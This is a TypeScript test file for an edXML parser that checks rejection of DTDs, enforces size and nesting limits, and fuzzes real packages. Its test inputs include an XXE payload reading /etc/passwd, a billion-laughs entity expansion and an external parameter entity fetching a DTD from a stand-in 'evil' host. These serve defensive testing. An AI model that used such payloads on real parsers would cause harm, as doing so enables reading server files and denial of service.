import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  attachmentFile,
  EDXML_NAMESPACE,
  EdxmlError,
  parseEdxml,
  validatePackage,
  verifyEdxmlSignature,
  writeEdxml,
} from '../src/index.ts';
import { fixture } from './fixtures.ts';

function rejection(run: () => unknown): EdxmlError {
  try {
    run();
  } catch (error) {
    if (error instanceof EdxmlError) return error;
    throw error;
  }
  throw new Error('accepted');
}

describe('no DTD, no external entities', () => {
  it('rejects an XXE payload before anything reads the entity', () => {
    const xxe = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE edXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<edXML xmlns="${EDXML_NAMESPACE}"><edXML:edXMLEnvelope xmlns:edXML="${EDXML_NAMESPACE}"><edXML:edXMLHeader>
<edXML:MessageHeader><edXML:From><edXML:OrganName>&xxe;</edXML:OrganName></edXML:From></edXML:MessageHeader>
</edXML:edXMLHeader></edXML:edXMLEnvelope></edXML>`;
    const e = rejection(() => parseEdxml(xxe));
    expect(e.code).toBe('DOCTYPE_FORBIDDEN');
    expect(e.line).toBe(2);
    expect(e.message).toMatch(/DTD và thực thể ngoài không được xử lý/);
    expect(e.message).not.toMatch(/root:/);
    // the signature check goes through the same gate before its DOM parser sees the text
    expect(rejection(() => verifyEdxmlSignature(xxe)).code).toBe('DOCTYPE_FORBIDDEN');
  });

  it('rejects entity expansion (billion laughs) and parameter entities the same way', () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><edXML>&lol2;</edXML>`;
    expect(rejection(() => parseEdxml(lol)).code).toBe('DOCTYPE_FORBIDDEN');
    expect(rejection(() => parseEdxml('<!ENTITY % x SYSTEM "http://evil/x.dtd"><edXML/>')).code).toBe(
      'DOCTYPE_FORBIDDEN',
    );
    // not skipped as junk before <?xml either
    const before = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${fixture('truclienthong-example/resources_status.edxml')}`;
    expect(rejection(() => parseEdxml(before)).code).toBe('DOCTYPE_FORBIDDEN');
  });
});

describe('limits fail cleanly', () => {
  it('input larger than maxBytes', () => {
    const big = fixture('truclienthong-example/resources_edoc_new.edxml');
    const e = rejection(() => parseEdxml(big, { limits: { maxBytes: 100_000 } }));
    expect(e.code).toBe('TOO_LARGE');
    expect(e.message).toBe(`Gói tin ${big.length} byte vượt giới hạn 100000 byte`);
    expect(parseEdxml(big, { limits: { maxBytes: big.length } }).package.kind).toBe('document');
  });

  it('nesting deeper than maxDepth, even very deep', () => {
    const deep = (n: number) =>
      `<edXML xmlns="${EDXML_NAMESPACE}">${'<a>'.repeat(n)}${'</a>'.repeat(n)}</edXML>`;
    const started = performance.now();
    expect(rejection(() => parseEdxml(deep(200_000))).code).toBe('TOO_DEEP');
    expect(performance.now() - started).toBeLessThan(5000);
    expect(rejection(() => parseEdxml(deep(40))).code).toBe('TOO_DEEP');
    expect(rejection(() => parseEdxml(deep(40), { limits: { maxDepth: 64 } })).code).toBe('MISSING_ELEMENT');
  });
});

type Mutation =
  | { op: 'flip'; at: number; value: number }
  | { op: 'truncate'; at: number }
  | { op: 'insert'; at: number; text: string }
  | { op: 'duplicate'; at: number }
  | { op: 'remove'; at: number };

const SNIPPETS = [
  '<',
  '>',
  '&',
  '&#0;',
  ']]>',
  '<![CDATA[',
  '"',
  '<!DOCTYPE x>',
  '</edXML:To>',
  '<edXML:From>',
  'null',
  '2019/02/30',
  '\u0000',
  '\uE0000\uE000',
];

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ op: fc.constant('flip' as const), at: fc.nat(), value: fc.integer({ min: 0, max: 255 }) }),
  fc.record({ op: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({
    op: fc.constant('insert' as const),
    at: fc.nat(),
    text: fc.oneof(fc.constantFrom(...SNIPPETS), fc.string()),
  }),
  fc.record({ op: fc.constant('duplicate' as const), at: fc.nat() }),
  fc.record({ op: fc.constant('remove' as const), at: fc.nat() }),
);

const ELEMENT = /<(edXML:)?(\w+)(\s[^>]*)?>[^<]*<\/\1?\2>|<(edXML:)?(\w+)[^>]*\/>/g;

/** Applies a mutation; element operations pick the at-th complete leaf element (mod their number). */
function mutate(bytes: Buffer, m: Mutation): Buffer {
  if (bytes.length === 0) return bytes;
  const at = m.at % bytes.length;
  if (m.op === 'flip') {
    const copy = Buffer.from(bytes);
    copy[at] = m.value;
    return copy;
  }
  if (m.op === 'truncate') return bytes.subarray(0, at);
  if (m.op === 'insert')
    return Buffer.concat([bytes.subarray(0, at), Buffer.from(m.text), bytes.subarray(at)]);
  const text = bytes.toString('latin1');
  const found = [...text.matchAll(ELEMENT)];
  if (found.length === 0) return bytes;
  const hit = found[m.at % found.length]!;
  const start = hit.index;
  const end = start + hit[0].length;
  const replacement = m.op === 'duplicate' ? hit[0] + hit[0] : '';
  return Buffer.from(text.slice(0, start) + replacement + text.slice(end), 'latin1');
}

const SEEDS = [
  'API-Gateway-iOffice/xml_2019_5_852e179c-sdk-serialized.edxml',
  'API-Gateway-iOffice/uploads_1f881896.edxml',
  'API-Gateway-iOffice/xml_2025_10_9e272474-gateway.edxml',
  'edoc-integrator/edoc-service_status_processing_05.edxml',
  'tltvbqn/resources_edoc.edxml',
  'truclienthong-example/resources_edoc.edxml',
  'truclienthong-example/resources_edoc_update.edxml',
  'truclienthong-example/resources_status_rejection_02.edxml',
  'truclienthong-example/xml_dc0bdef0-c7a3-4aaf-b717-777303442973.edxml',
].map((name) => fixture(name));

describe('fuzzing the real packages', () => {
  it('returns a result or throws EdxmlError, never anything else, in bounded time', () => {
    let accepted = 0;
    let rejected = 0;
    fc.assert(
      fc.property(
        fc.nat({ max: SEEDS.length - 1 }),
        fc.array(mutation, { minLength: 1, maxLength: 4 }),
        (seed, ms) => {
          const input = ms.reduce(mutate, SEEDS[seed]!);
          const started = performance.now();
          let result: ReturnType<typeof parseEdxml> | undefined;
          try {
            result = parseEdxml(input);
            accepted++;
          } catch (error) {
            if (!(error instanceof EdxmlError)) throw error;
            rejected++;
          }
          expect(performance.now() - started).toBeLessThan(2000);
          if (!result) return;
          // what was accepted can be used: validated, its attachments opened, written and read back the same
          validatePackage(result.package);
          if (result.package.kind === 'document')
            for (const a of result.package.attachments) {
              try {
                attachmentFile(a);
              } catch (error) {
                if (!(error instanceof EdxmlError)) throw error;
              }
            }
          let written: string | undefined;
          try {
            written = writeEdxml(result.package);
          } catch (error) {
            if (!(error instanceof EdxmlError)) throw error;
          }
          if (written !== undefined) expect(parseEdxml(written).package).toEqual(result.package);
        },
      ),
      { numRuns: 400, seed: 20261122 },
    );
    // both outcomes happen: the mutations are neither all harmless nor all fatal
    expect(accepted).toBeGreaterThan(20);
    expect(rejected).toBeGreaterThan(20);
  }, 120_000);
});
